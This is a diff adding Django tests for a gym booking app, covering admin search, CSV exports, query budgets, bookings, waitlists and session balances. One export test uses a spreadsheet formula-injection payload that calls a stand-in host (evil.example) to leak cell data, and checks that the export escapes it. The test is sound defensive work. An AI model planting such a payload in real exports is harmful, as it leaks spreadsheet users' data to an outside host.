+        self.other = GymUser.objects.create_user(
+            email="petro@example.com", password="pass12345", first_name="Петро", last_name="Гнатюк",
+            phone="+380931112233",
+        )
+
+    def _search(self, url_name, q):
+        response = self.client.get(reverse(url_name), {'q': q})
+        return list(response.context['cl'].result_list)
+
+    def test_apostrophe_and_phone_formats_are_normalized(self):
+        """Тест: будь-який апостроф знаходить Марʼяну, номер шукається в національному форматі"""
+        for q in ("Мар'яна", "Мар’яна", "Марʼяна Коваль"):
+            with self.subTest(q=q):
+                self.assertEqual(self._search('admin:elevix_gymuser_changelist', q), [self.maryana])
+        for q in ("067 123-45-67", "(067)1234567", "+380671234567"):
+            with self.subTest(q=q):
+                self.assertEqual(self._search('admin:elevix_gymuser_changelist', q), [self.maryana])
+        self.assertEqual(self._search('admin:elevix_gymuser_changelist', "Невідомий"), [])
+
+    def test_booking_search_uses_subqueries_instead_of_joins(self):
+        """Тест: пошук бронювань по користувачу/послузі - підзапити по їх таблицях, без JOIN і DISTINCT"""
+        schedule, plan = make_group_slot(max_participants=5)
+        booking = Booking.objects.create(
+            user=self.maryana, service=schedule.service, pricing_plan=plan,
+            booking_date=timezone.now(), total_price=plan.price,
+        )
+        Booking.objects.create(
+            user=self.other, service=schedule.service, pricing_plan=plan,
+            booking_date=timezone.now(), total_price=plan.price,
+        )
+
+        booking_admin = admin_site._registry[Booking]
+        queryset, may_have_duplicates = booking_admin.get_search_results(None, Booking.objects.all(), "Коваль тренінг")
+        self.assertFalse(may_have_duplicates)
+        self.assertNotIn('JOIN', str(queryset.query))
+        self.assertEqual(list(queryset), [booking])
+        self.assertEqual(self._search('admin:elevix_booking_changelist', "067-123"), [booking])
+
+
+class EstimatedCountPaginatorTests(TestCase):
+
+    def setUp(self):
+        cache.clear()
+        GymUser.objects.bulk_create([GymUser(email=f"count{i}@example.com") for i in range(30)])
+
+    def test_unfiltered_large_table_uses_estimate(self):
+        """Тест: без фільтрів велика таблиця рахується за статистикою, без COUNT(*)"""
+        with mock.patch('elevix.pagination.estimated_row_count', return_value=2_500_000):
+            with self.assertNumQueries(0):
+                paginator = EstimatedCountPaginator(GymUser.objects.order_by('pk'), 100)
+                self.assertEqual(paginator.count, 2_500_000)
+            self.assertEqual(paginator.num_pages, 25_000)
+
+            # Відфільтрований список рахується точно
+            paginator = EstimatedCountPaginator(GymUser.objects.filter(email__startswith="count1"), 100)
+            self.assertEqual(paginator.count, 11)
+
+    def test_small_tables_count_exactly_and_cache(self):
+        """Тест: мала таблиця (або без статистики) - точний COUNT, повторний запит бере його з кешу"""
+        with mock.patch('elevix.pagination.estimated_row_count', return_value=500):
+            with self.assertNumQueries(1):
+                self.assertEqual(EstimatedCountPaginator(GymUser.objects.order_by('pk'), 100).count, 30)
+            with self.assertNumQueries(0):
+                self.assertEqual(EstimatedCountPaginator(GymUser.objects.order_by('pk'), 100).count, 30)
+        self.assertEqual(EstimatedCountPaginator(GymUser.objects.none(), 100).count, 0)
+
+
+class AdminExportTests(TestCase):
+
+    def setUp(self):
+        self.admin_user = GymUser.objects.create_superuser(
+            email="export@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(self.admin_user)
+
+    def _export(self, model_name, action, pks):
+        response = self.client.post(reverse(f'admin:elevix_{model_name}_changelist'), {
+            'action': action,
+            '_selected_action': pks,
+        })
+        self.assertTrue(response.streaming)
+        self.assertIn('attachment;', response['Content-Disposition'])
+        with CaptureQueriesContext(connection) as queries:
+            content = b''.join(response.streaming_content).decode('utf-8')
+        self.assertTrue(content.startswith('\ufeff'))
+        return list(csv.reader(StringIO(content.lstrip('\ufeff')))), len(queries)
+
+    def test_booking_export_streams_rows_with_joined_names(self):
+        """Тест: експорт бронювань - один запит із JOIN незалежно від кількості рядків, статус назвою"""
+        schedule, plan = make_group_slot(max_participants=50)
+        users = GymUser.objects.bulk_create([
+            GymUser(email=f"export{i}@example.com", first_name="Олена", last_name=f"Клієнтка{i}") for i in range(30)
+        ])
+        bookings = Booking.objects.bulk_create([
+            Booking(user=user, service=schedule.service, pricing_plan=plan, status='confirmed',
+                    booking_date=timezone.now(), total_price=plan.price)
+            for user in users
+        ])
+
+        rows, queries = self._export('booking', 'export_bookings', [booking.pk for booking in bookings[:1]])
+        self.assertEqual(queries, 1)
+        rows, queries = self._export('booking', 'export_bookings', [booking.pk for booking in bookings])
+        self.assertEqual(queries, 1)
+
+        self.assertEqual(len(rows), 31)
+        self.assertEqual(rows[0][:2], ['ID', 'Email клієнта'])
+        self.assertEqual(rows[1][1], "export0@example.com")
+        self.assertEqual(rows[1][5], schedule.service.name)
+        self.assertEqual(rows[1][8], 'Підтверджено')
+
+    def test_trainer_and_member_exports(self):
+        """Тест: експорт тренерів містить email пов'язаного користувача, експорт учасників - телефон"""
+        member = GymUser.objects.create_user(email="coach@example.com", password="pass12345", phone="+380671234567")
+        trainer = Trainer.objects.create(
+            first_name="Ігор", last_name="Лисенко", age=33, gender="M", experience=8, user=member,
+        )
+        rows, _ = self._export('trainer', 'export_trainers', [trainer.pk])
+        self.assertEqual(rows[1][1:3], ['Лисенко', 'Ігор'])
+        self.assertEqual(rows[1][8], "coach@example.com")
+
+        rows, _ = self._export('gymuser', 'export_users', [member.pk])
+        self.assertEqual(rows[1][1], "coach@example.com")
+        self.assertEqual(rows[1][5], "+380671234567")
+
+    def test_formula_cells_are_escaped(self):
+        """Тест: примітки та імена, що починаються з =, + чи @, експортуються як текст, а не формула"""
+        schedule, plan = make_group_slot(max_participants=5)
+        user = GymUser.objects.create_user(
+            email="formula@example.com", password="pass12345", first_name="@SUM(A1:A9)", last_name="+Коваль"
+        )
+        payload = '=HYPERLINK("http://evil.example/?d="&A1,"Деталі")'
+        booking = Booking.objects.create(
+            user=user, service=schedule.service, pricing_plan=plan, booking_date=timezone.now(),
+            total_price=plan.price, notes=payload,
+        )
+
+        rows, _ = self._export('booking', 'export_bookings', [booking.pk])
+        self.assertEqual(rows[1][2:4], ["'+Коваль", "'@SUM(A1:A9)"])
+        self.assertEqual(rows[1][-1], "'" + payload)
+
+
+class QueryBudgetTests(TestCase):
+    """Кількість запитів кожного маршруту сайту не росте разом з кількістю рядків"""
+
+    SCALES = (1, 10, 1000)
+
+    # Маршрути, які не вимірюються, і чому; решта маршрутів get_resolver() вимірюється
+    SKIPPED = {
+        'elevix:booking_cancel': 'лише POST - перевіряється окремими тестами',
+        'admin:logout': 'лише POST',
+        'admin:autocomplete': 'потрібні параметри поля автодоповнення',
+        'admin:view_on_site': 'лише перенаправлення на сайт',
+        'account_confirm_email': 'потрібен одноразовий ключ з листа',
+        'account_reset_password_from_key': 'потрібен одноразовий ключ з листа',
+        None: 'безіменні маршрути: перенаправлення адмінки на change/, застарілі social/* allauth, catch-all адмінки',
+        '^static/(?P<path>.*)$': 'файли з диска, без БД',
+    }
+    ADMIN_OBJECT_SUFFIXES = ('change', 'history', 'delete')
+
+    def _routes(self, patterns=None, prefix='', namespace=None):
+        """(маршрут, повне ім'я, URLPattern) для кожного маршруту mysite/urls.py, включно з вкладеними"""
+        for pattern in get_resolver().url_patterns if patterns is None else patterns:
+            if isinstance(pattern, URLResolver):
+                nested = ':'.join(filter(None, [namespace, pattern.namespace])) or None
+                yield from self._routes(pattern.url_patterns, prefix + str(pattern.pattern), nested)
+            else:
+                name = f'{namespace}:{pattern.name}' if namespace and pattern.name else pattern.name
+                yield prefix + str(pattern.pattern), name, pattern
+
+    def _model_admin(self, name, suffixes):
+        """ModelAdmin моделі elevix для маршруту адмінки з одним із суфіксів; None - для решти"""
+        label, _, suffix = name.removeprefix('admin:').rpartition('_')
+        if suffix not in suffixes:
+            return None
+        for model, model_admin in admin_site._registry.items():
+            if model._meta.app_label == 'elevix' and f'elevix_{model._meta.model_name}' == label:
+                return model_admin
+        return None
+
+    def _admin_object(self, name):
+        """Об'єкт для маршрутів change/history/delete адмінки; None - для моделей сторонніх додатків"""
+        if name == 'admin:auth_user_password_change':
+            return GymUser.objects.order_by('pk').last()
+        model_admin = self._model_admin(name, self.ADMIN_OBJECT_SUFFIXES)
+        return model_admin.model._default_manager.order_by('pk').last() if model_admin else None
+
+    def _urls(self):
+        """{маршрут: URL}; маршрут без аргументів, які можна підставити, має бути в SKIPPED"""
+        trainer, service = Trainer.objects.order_by('pk').last(), Service.objects.order_by('pk').last()
+        project_kwargs = {'pk': trainer.pk, 'service_id': service.pk}
+        request = RequestFactory().get('/')
+        request.user = GymUser.objects.get(email="budget@example.com")
+        urls = {}
+        for route, name, pattern in self._routes():
+            if name in self.SKIPPED or route in self.SKIPPED:
+                continue
+            model_admin = self._model_admin(name or '', ('add',))
+            if model_admin and not model_admin.has_add_permission(request):
+                # Рядки створює сам застосунок (заняття, сповіщення, завдання) - сторінка віддає 403
+                continue
+            arguments = list(pattern.pattern.regex.groupindex)
+            if pattern.callback.__module__ == 'elevix.views':
+                kwargs = {argument: project_kwargs[argument] for argument in arguments}
+            elif arguments == ['app_label']:
+                kwargs = {'app_label': 'elevix'}
+            elif arguments:
+                obj = self._admin_object(name)
+                if obj is None:
+                    # Об'єктні сторінки адмінки сторонніх додатків (групи, сайти, allauth)
+                    continue
+                kwargs = {arguments[0]: obj.pk}
+            else:
+                kwargs = {}
+            urls[route] = reverse(name, kwargs=kwargs)
+        return urls
+
+    def _measure(self, rows):
+        seed_site(rows)
+        counts = {}
+        for route, url in self._urls().items():
+            # Кеші процесу теж скидаються, інакше перший прохід робить на запит-два більше
+            cache.clear()
+            ContentType.objects.clear_cache()
+            Site.objects.clear_cache()
+            with CaptureQueriesContext(connection) as queries:
+                response = self.client.get(url)
+            view = resolve(url).func
+            if view.__module__ == 'elevix.views':
+                # Власні представлення мають оголосити бюджет і вкладатися в нього
+                self.assertEqual(response.status_code, 200, url)
+                budget = getattr(view, 'query_budget', None)
+                self.assertIsNotNone(budget, f"{url}: не оголошено @query_budget")
+                self.assertLessEqual(len(queries), budget, f"{url} при {rows} рядках")
+            else:
+                self.assertLess(response.status_code, 400, url)
+            counts[route] = len(queries)
+        return counts
+
+    def test_query_counts_are_within_budget_and_constant(self):
+        """Тест: для 1, 10 та 1000 рядків кожен маршрут сайту робить однакову кількість запитів"""
+        admin_user = GymUser.objects.create_superuser(
+            email="budget@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        # Інакше allauth створює запис адреси під час першого відкриття accounts/email/
+        EmailAddress.objects.create(user=admin_user, email=admin_user.email, primary=True, verified=True)
+        self.client.force_login(admin_user)
+        results = []
+        for rows in self.SCALES:
+            with self.subTest(rows=rows):
+                results.append(self._measure(rows))
+        self.assertIn('', results[0])
+        self.assertIn('admin/elevix/booking/<path:object_id>/change/', results[0])
+        self.assertIn('accounts/password/change/', results[0])
+        self.assertEqual(results[0], results[1])
+        self.assertEqual(results[0], results[2])
+
+
+def next_weekday(day_of_week):
+    """Найближча майбутня дата з заданим днем тижня (не сьогодні)"""
+    date = datetime.date.today() + datetime.timedelta(days=1)
+    return date + datetime.timedelta(days=(day_of_week - date.weekday()) % 7)
+
+
+def make_group_slot(max_participants):
+    trainer = Trainer.objects.create(first_name="Олег", last_name="Бондар", age=35, gender="M", experience=10)
+    service = Service.objects.create(
+        name="Функціональний тренінг", duration=1, category="group_training", trainer=trainer
+    )
+    plan = PricingPlan.objects.create(
+        service=service, name="Пакет 10", plan_type="package", price=8000, sessions_count=10
+    )
+    schedule = Schedule.objects.create(
+        trainer=trainer, service=service, day_of_week=2,
+        start_time=datetime.time(18), end_time=datetime.time(19), max_participants=max_participants,
+    )
+    return schedule, plan
+
+
+class BookingEngineTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, self.plan = make_group_slot(max_participants=2)
+        self.date = next_weekday(self.schedule.day_of_week)
+        self.users = [
+            GymUser.objects.create_user(
+                email=f"member{i}@example.com", password="pass12345", first_name="Клієнт", last_name=str(i)
+            )
+            for i in range(3)
+        ]
+
+    def test_booking_view_creates_booking_priced_from_plan(self):
+        """Тест: POST на booking_create створює бронювання з ціною та заняттями з тарифу"""
+        self.client.force_login(self.users[0])
+        response = self.client.post(reverse('elevix:booking_create', args=[self.schedule.service_id]), {
+            'schedule': self.schedule.pk,
+            'date': self.date.isoformat(),
+            'pricing_plan': self.plan.pk,
+        })
+        self.assertRedirects(response, reverse('elevix:profile'), fetch_redirect_response=False)
+
+        booking = Booking.objects.get()
+        self.assertEqual(booking.total_price, 8000)
+        self.assertEqual(booking.sessions_remaining, 10)
+        self.assertEqual(booking.schedule, self.schedule)
+        self.assertEqual(booking.booking_date.date(), self.date)
+        self.assertEqual(booking.slot.booked_count, 1)
+
+    def test_full_slot_rejects_booking(self):
+        """Тест: коли місця закінчились, наступне бронювання відхиляється"""
+        for user in self.users[:2]:
+            create_booking(user, self.schedule.pk, self.plan.pk, self.date)
+        with self.assertRaisesMessage(BookingError, 'вільних місць'):
+            create_booking(self.users[2], self.schedule.pk, self.plan.pk, self.date)
+
+        # Інша дата - інше заняття з власними місцями
+        create_booking(self.users[2], self.schedule.pk, self.plan.pk, self.date + datetime.timedelta(days=7))
+
+    def test_conditional_update_guards_capacity(self):
+        """Тест: місце займає лише UPDATE з booked_count < capacity - на повному занятті SlotFullError"""
+        booking = create_booking(self.users[0], self.schedule.pk, self.plan.pk, self.date)
+        slot = booking.slot
+        # Лічильник, а не кількість бронювань, вирішує долю місця: як у конкурента, що вже зайняв останнє
+        SlotOccurrence.objects.filter(pk=slot.pk).update(booked_count=F('capacity'))
+
+        with self.assertRaises(SlotFullError) as full:
+            create_booking(self.users[1], self.schedule.pk, self.plan.pk, self.date)
+        self.assertEqual(full.exception.slot_id, slot.pk)
+        slot.refresh_from_db()
+        self.assertEqual(slot.booked_count, slot.capacity)
+        self.assertEqual(Booking.objects.filter(slot=slot).count(), 1)
+
+        # Відхилений повторний запис відкочує вже збільшений лічильник
+        SlotOccurrence.objects.filter(pk=slot.pk).update(booked_count=1)
+        with self.assertRaisesMessage(BookingError, 'вже записані'):
+            create_booking(self.users[0], self.schedule.pk, self.plan.pk, self.date)
+        slot.refresh_from_db()
+        self.assertEqual(slot.booked_count, 1)
+
+    def test_double_booking_and_wrong_weekday_rejected(self):
+        """Тест: повторний запис та дата не в день заняття відхиляються"""
+        create_booking(self.users[0], self.schedule.pk, self.plan.pk, self.date)
+        with self.assertRaisesMessage(BookingError, 'вже записані'):
+            create_booking(self.users[0], self.schedule.pk, self.plan.pk, self.date)
+        with self.assertRaises(BookingError):
+            create_booking(self.users[1], self.schedule.pk, self.plan.pk, self.date + datetime.timedelta(days=1))
+
+
+class SlotOccurrenceTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, self.plan = make_group_slot(max_participants=1)
+        self.date = next_weekday(self.schedule.day_of_week)
+        self.user = GymUser.objects.create_user(email="slot@example.com", password="pass12345")
+
+    def test_slots_materialized_ahead(self):
+        """Тест: збереження розкладу створює заняття на SLOT_WEEKS_AHEAD тижнів з його місткістю"""
+        slots = SlotOccurrence.objects.filter(schedule=self.schedule)
+        self.assertEqual(slots.count(), SLOT_WEEKS_AHEAD)
+        self.assertTrue(all(slot.capacity == 1 and slot.starts_at.weekday() == 2 for slot in slots))
+        # Повторний запуск нічого не дублює
+        self.assertEqual(generate_slots(), 0)
+
+    def test_booked_counter_and_single_row_availability(self):
+        """Тест: бронювання займає місце в лічильнику, скасування в адмінці його звільняє"""
+        booking = create_booking(self.user, self.schedule.pk, self.plan.pk, self.date)
+        slot = SlotOccurrence.objects.get(pk=booking.slot_id)
+        self.assertEqual((slot.booked_count, slot.places_left), (1, 0))
+
+        Booking.objects.filter(pk=booking.pk).update(status='cancelled')
+        recount_slots([slot.pk])
+        slot.refresh_from_db()
+        self.assertEqual(slot.places_left, 1)
+
+    def test_schedule_edit_regenerates_incrementally(self):
+        """Тест: зміна часу переносить вільні заняття, а заняття з записами лише вимикає"""
+        booking = create_booking(self.user, self.schedule.pk, self.plan.pk, self.date)
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule.start_time = datetime.time(20)
+            self.schedule.end_time = datetime.time(21)
+            self.schedule.max_participants = 4
+            self.schedule.save()
+
+        active = SlotOccurrence.objects.filter(schedule=self.schedule, is_active=True)
+        self.assertEqual(active.count(), SLOT_WEEKS_AHEAD)
+        self.assertTrue(all(slot.capacity == 4 for slot in active))
+        old = SlotOccurrence.objects.get(pk=booking.slot_id)
+        self.assertFalse(old.is_active)
+        self.assertEqual(SlotOccurrence.objects.filter(schedule=self.schedule, is_active=False).count(), 1)
+
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule.is_active = False
+            self.schedule.save()
+        self.assertFalse(SlotOccurrence.objects.filter(schedule=self.schedule, is_active=True).exists())
+
+    def test_admin_actions_regenerate_slots_with_active_filter(self):
+        """Тест: дії адмінки з фільтром за is_active регенерують заняття обраних розкладів"""
+        admin_user = GymUser.objects.create_superuser(
+            email="schedules@example.com", password="pass12345", first_name="Адмін", last_name="Адмінов"
+        )
+        self.client.force_login(admin_user)
+        changelist = reverse('admin:elevix_schedule_changelist')
+        active = SlotOccurrence.objects.filter(schedule=self.schedule, is_active=True)
+
+        with self.captureOnCommitCallbacks(execute=True):
+            self.client.post(changelist + '?is_active__exact=1', {
+                'action': 'deactivate_schedules',
+                '_selected_action': [self.schedule.pk],
+            })
+        self.assertFalse(active.exists())
+
+        with self.captureOnCommitCallbacks(execute=True):
+            self.client.post(changelist + '?is_active__exact=0', {
+                'action': 'activate_schedules',
+                '_selected_action': [self.schedule.pk],
+            })
+        self.assertEqual(active.count(), SLOT_WEEKS_AHEAD)
+
+
+class AvailabilityTests(TestCase):
+
+    def setUp(self):
+        cache.clear()
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, self.plan = make_group_slot(max_participants=3)
+        self.date = next_weekday(self.schedule.day_of_week)
+        self.url = reverse('elevix:availability')
+        self.params = {'start': self.date.isoformat(), 'end': (self.date + datetime.timedelta(days=27)).isoformat()}
+
+    def test_range_served_in_constant_queries_and_cached(self):
+        """Тест: 4 тижні доступності - не більше 2 запитів, з прогрітого кешу - лише список послуг"""
+        with self.assertNumQueries(2):
+            data = self.client.get(self.url, self.params).json()
+        self.assertEqual(len(data['slots']), 4)
+        self.assertEqual(data['slots'][0]['places_left'], 3)
+        self.assertTrue(data['slots'][0]['starts_at'].startswith(self.date.isoformat()))
+
+        with self.assertNumQueries(1):
+            self.assertEqual(self.client.get(self.url, self.params).json(), data)
+
+    def test_booking_invalidates_service_weeks(self):
+        """Тест: бронювання збільшує версію послуги, і наступна відповідь бачить зайняте місце"""
+        self.client.get(self.url, self.params)
+        user = GymUser.objects.create_user(email="avail@example.com", password="pass12345")
+        with self.captureOnCommitCallbacks(execute=True):
+            create_booking(user, self.schedule.pk, self.plan.pk, self.date)
+
+        slot = self.client.get(self.url, self.params).json()['slots'][0]
+        self.assertEqual((slot['booked'], slot['places_left']), (1, 2))
+
+    def test_invalid_range_rejected(self):
+        """Тест: кінець раніше за початок - 400 з описом помилки"""
+        response = self.client.get(self.url, {'start': '2030-01-10', 'end': '2030-01-01'})
+        self.assertEqual(response.status_code, 400)
+        self.assertIn('errors', response.json())
+
+
+class ScheduleOverlapTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, _ = make_group_slot(max_participants=5)
+        self.schedule.end_time = datetime.time(19, 30)
+        self.schedule.save()
+        self.tmpdir = tempfile.mkdtemp()
+
+    def tearDown(self):
+        shutil.rmtree(self.tmpdir, ignore_errors=True)
+
+    def _schedule(self, start, end, **kwargs):
+        fields = dict(
+            trainer_id=self.schedule.trainer_id, service_id=self.schedule.service_id, day_of_week=2,
+            start_time=datetime.time(*start), end_time=datetime.time(*end),
+        )
+        fields.update(kwargs)
+        return Schedule(**fields)
+
+    def test_nested_interval_rejected_by_model(self):
+        """Тест: 18:30-19:00 всередині 18:00-19:30 того ж тренера відхиляється в clean"""
+        nested = self._schedule((18, 30), (19, 0))
+        with self.assertRaises(ValidationError):
+            nested.full_clean()
+
+        # Суміжний інтервал та інший день - без конфлікту
+        self._schedule((19, 30), (20, 30)).full_clean()
+        self._schedule((18, 30), (19, 0), day_of_week=3).full_clean()
+
+    def test_save_does_not_repeat_overlap_query(self):
+        """Тест: save() лише записує рядок - перетини перевіряє clean() та EXCLUDE у PostgreSQL"""
+        schedule = self._schedule((20, 0), (21, 0))
+        with self.captureOnCommitCallbacks(), CaptureQueriesContext(connection) as queries:
+            schedule.save()
+        self.assertFalse([query for query in queries if 'end_time" >' in query['sql']])
+
+    @skipUnless(connection.vendor != 'postgresql', 'у PostgreSQL перетин не зберегти в обхід EXCLUDE')
+    def test_migration_deactivates_later_overlapping_rows(self):
+        """Тест: перед додаванням обмежень міграція вимикає пізніший з розкладів, що перетинаються"""
+        migration = import_module('elevix.migrations.0006_schedule_overlaps')
+        nested = self._schedule((18, 30), (19, 0))
+        nested.save()
+        chained = self._schedule((18, 45), (20, 0))
+        chained.save()
+        free = self._schedule((20, 0), (21, 0), day_of_week=3)
+        free.save()
+
+        with redirect_stdout(StringIO()):
+            migration.resolve_existing_conflicts(django_apps, None)
+        active = set(Schedule.objects.filter(is_active=True).values_list('pk', flat=True))
+        self.assertEqual(active, {self.schedule.pk, free.pk})
+
+    @skipUnless(connection.vendor == 'postgresql', 'EXCLUDE schedule_no_overlap є лише в PostgreSQL')
+    def test_database_rejects_overlap_saved_past_clean(self):
+        """Тест: перетин, збережений в обхід clean(), відхиляє сама БД"""
+        with self.assertRaises(IntegrityError), transaction.atomic():
+            self._schedule((18, 30), (19, 0)).save()
+
+    def test_sweep_finds_overlaps_in_sorted_pass(self):
+        """Тест: find_overlaps знаходить перетини, але не суміжні інтервали"""
+        items = [
+            self._schedule((9, 0), (12, 0)),
+            self._schedule((10, 0), (10, 30)),
+            self._schedule((11, 0), (13, 0)),
+            self._schedule((13, 0), (14, 0)),
+        ]
+        conflicts = find_overlaps(items)
+        self.assertEqual(
+            [(first.start_time.hour, second.start_time.hour) for first, second in conflicts],
+            [(9, 10), (9, 11)],
+        )
+
+    def _write_csv(self, rows):
+        path = f'{self.tmpdir}/schedule.csv'
+        with open(path, 'w', encoding='utf-8') as f:
+            f.write('trainer_id,service_id,day_of_week,start_time,end_time,max_participants\n')
+            for row in rows:
+                f.write(','.join(map(str, row)) + '\n')
+        return path
+
+    def test_import_rejects_overlaps_and_loads_clean_file(self):
+        """Тест: імпорт з перетином (у файлі чи з чинним розкладом) відхиляється, коректний - створює заняття"""
+        trainer, service = self.schedule.trainer_id, self.schedule.service_id
+        bad = self._write_csv([
+            (trainer, service, 4, '10:00', '11:30', 5),
+            (trainer, service, 4, '11:00', '12:00', 5),
+            (trainer, service, 2, '19:00', '20:00', 5),
+        ])
+        with self.assertRaises(CommandError):
+            call_command('import_schedules', bad, stdout=StringIO(), stderr=StringIO())
+        self.assertEqual(Schedule.objects.count(), 1)
+
+        good = self._write_csv([
+            (trainer, service, 4, '10:00', '11:00', 5),
+            (trainer, service, 4, '11:00', '12:00', 5),
+        ])
+        call_command('import_schedules', good, stdout=StringIO())
+        self.assertEqual(Schedule.objects.count(), 3)
+        self.assertEqual(SlotOccurrence.objects.filter(schedule__day_of_week=4).count(), 2 * SLOT_WEEKS_AHEAD)
+
+
+def make_package_booking(sessions):
+    schedule, plan = make_group_slot(max_participants=5)
+    plan.sessions_count = sessions
+    plan.save()
+    user = GymUser.objects.create_user(email=f"package{sessions}@example.com", password="pass12345")
+    return Booking.objects.create(
+        user=user, service=schedule.service, pricing_plan=plan, status='confirmed',
+        booking_date=timezone.now(), total_price=plan.price,
+    )
+
+
+class SessionLedgerTests(TestCase):
+
+    def setUp(self):
+        self.booking = make_package_booking(sessions=2)
+
+    def test_check_in_decrements_and_never_goes_negative(self):
+        """Тест: кожне відвідування пише журнал і зменшує баланс, на нулі списання відхиляється"""
+        check_in(self.booking.pk)
+        check_in(self.booking.pk, note="Друге заняття")
+        with self.assertRaises(CheckInError):
+            check_in(self.booking.pk)
+
+        self.booking.refresh_from_db()
+        self.assertEqual(self.booking.sessions_remaining, 0)
+        self.assertEqual(SessionUsage.objects.filter(booking=self.booking).count(), 2)
+
+    def test_reconcile_recomputes_cached_balance_from_ledger(self):
+        """Тест: зіпсований кешований баланс відновлюється з журналу одним UPDATE"""
+        check_in(self.booking.pk)
+        SessionUsage.objects.create(booking=self.booking, sessions=-1, note="Повернення")
+        check_in(self.booking.pk)
+        Booking.objects.filter(pk=self.booking.pk).update(sessions_remaining=2)
+
+        with self.assertNumQueries(1):
+            self.assertEqual(reconcile_balances([self.booking.pk]), 1)
+        self.booking.refresh_from_db()
+        self.assertEqual(self.booking.sessions_remaining, 1)
+
+
+class SessionLedgerConcurrencyTests(TransactionTestCase):
+
+    @skipUnlessDBFeature('has_select_for_update')
+    def test_parallel_check_ins_do_not_lose_updates(self):
+        """Тест: 100 паралельних відміток на пакет з 10 занять - рівно 10 списань і баланс 0"""
+        booking = make_package_booking(sessions=10)
+
+        def attempt(_):
+            try:
+                check_in(booking.pk)
+                return True
+            except CheckInError:
+                return False
+            finally:
+                connections.close_all()
+
+        with ThreadPoolExecutor(max_workers=20) as pool:
+            outcomes = list(pool.map(attempt, range(100)))
+
+        booking.refresh_from_db()
+        self.assertEqual(outcomes.count(True), 10)
+        self.assertEqual(booking.sessions_remaining, 0)
+        self.assertEqual(SessionUsage.objects.filter(booking=booking).count(), 10)
+
+
+@override_settings(EMAIL_BACKEND='django.core.mail.backends.locmem.EmailBackend')
+class WaitlistTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, self.plan = make_group_slot(max_participants=1)
+        self.date = next_weekday(self.schedule.day_of_week)
+        self.holder, self.first, self.second = [
+            GymUser.objects.create_user(
+                email=f"queue{i}@example.com", password="pass12345", first_name="Клієнт", last_name=str(i)
+            )
+            for i in range(3)
+        ]
+        self.booking = create_booking(self.holder, self.schedule.pk, self.plan.pk, self.date)
+
+    def _join(self, user):
+        with self.assertRaises(SlotFullError) as full:
+            create_booking(user, self.schedule.pk, self.plan.pk, self.date)
+        return join_waitlist(user, full.exception.slot_id, self.plan.pk)
+
+    def test_cancellation_promotes_head_of_queue_in_same_transaction(self):
+        """Тест: скасування віддає місце першому в черзі та створює повідомлення в outbox"""
+        first_entry, second_entry = self._join(self.first), self._join(self.second)
+
+        with self.assertNumQueries(11):
+            self.assertEqual(cancel_bookings([self.booking.pk]), (1, 1))
+
+        first_entry.refresh_from_db()
+        second_entry.refresh_from_db()
+        self.assertEqual(first_entry.status, 'promoted')
+        self.assertEqual(first_entry.booking.user, self.first)
+        self.assertEqual(second_entry.status, 'waiting')
+        self.assertEqual(SlotOccurrence.objects.get(pk=self.booking.slot_id).booked_count, 1)
+
+        self.assertEqual(send_pending(), 1)
+        self.assertEqual(mail.outbox[0].to, [self.first.email])
+        self.assertIsNotNone(Notification.objects.get().sent_at)
+
+    def test_member_cancel_view_and_empty_queue(self):
+        """Тест: учасник скасовує своє бронювання; без черги місце просто звільняється"""
+        self.client.force_login(self.holder)
+        response = self.client.post(reverse('elevix:booking_cancel', args=[self.booking.pk]))
+        self.assertRedirects(response, reverse('elevix:profile'), fetch_redirect_response=False)
+
+        self.booking.refresh_from_db()
+        self.assertEqual(self.booking.status, 'cancelled')
+        self.assertEqual(SlotOccurrence.objects.get(pk=self.booking.slot_id).places_left, 1)
+        self.assertFalse(Notification.objects.exists())
+
+    def test_cannot_queue_twice(self):
+        """Тест: повторна спроба стати в чергу відхиляється"""
+        entry = self._join(self.first)
+        with self.assertRaisesMessage(WaitlistError, 'вже в черзі'):
+            join_waitlist(self.first, entry.slot_id, self.plan.pk)
+        self.assertEqual(WaitlistEntry.objects.count(), 1)
+
+
+    def test_can_queue_while_freed_places_await_promotion(self):
+        """Тест: поки звільнені місця не віддано черзі, записатися не можна, а стати в чергу - можна"""
+        first_entry = self._join(self.first)
+        # Місце звільнилося, але черга ще не оброблена
+        SlotOccurrence.objects.filter(pk=first_entry.slot_id).update(booked_count=0)
+
+        second_entry = self._join(self.second)
+        self.assertEqual(
+            list(WaitlistEntry.objects.filter(status='waiting').order_by('created_at', 'id')),
+            [first_entry, second_entry],
+        )
+
+class BookingTransitionTests(TestCase):
+
+    def setUp(self):
+        with self.captureOnCommitCallbacks(execute=True):
+            self.schedule, self.plan = make_group_slot(max_participants=30)
+        self.date = next_weekday(self.schedule.day_of_week)
+        self.admin = GymUser.objects.create_superuser(email="staff@example.com", password="pass12345")
+        self.bookings = [
+            create_booking(
+                GymUser.objects.create_user(email=f"state{i}@example.com", password="pass12345"),
+                self.schedule.pk, self.plan.pk, self.date,
+            )
+            for i in range(25)
+        ]
+
+    def _transition_queries(self, bookings, to_status):
+        with CaptureQueriesContext(connection) as queries:
+            transition_bookings([booking.pk for booking in bookings], to_status, actor=self.admin)
+        return len(queries)
+
+    def test_query_count_does_not_depend_on_batch_size(self):
+        """Тест: перехід 1 і 20 бронювань коштує однакову кількість запитів"""
+        self.assertEqual(
+            self._transition_queries(self.bookings[:1], 'confirmed'),
+            self._transition_queries(self.bookings[1:21], 'confirmed'),
+        )
+        self.assertEqual(
+            self._transition_queries(self.bookings[:1], 'cancelled'),
+            self._transition_queries(self.bookings[1:21], 'cancelled'),
+        )
+        self.assertEqual(Job.objects.filter(status='pending').count(), 4)
+
+    def test_cancellation_promotes_queue_in_constant_queries(self):
+        """Тест: скасування 1 і 10 бронювань переводить з черги стільки ж учасників за однакову кількість запитів"""
+        slot_id = self.bookings[0].slot_id
+        SlotOccurrence.objects.filter(pk=slot_id).update(capacity=25)
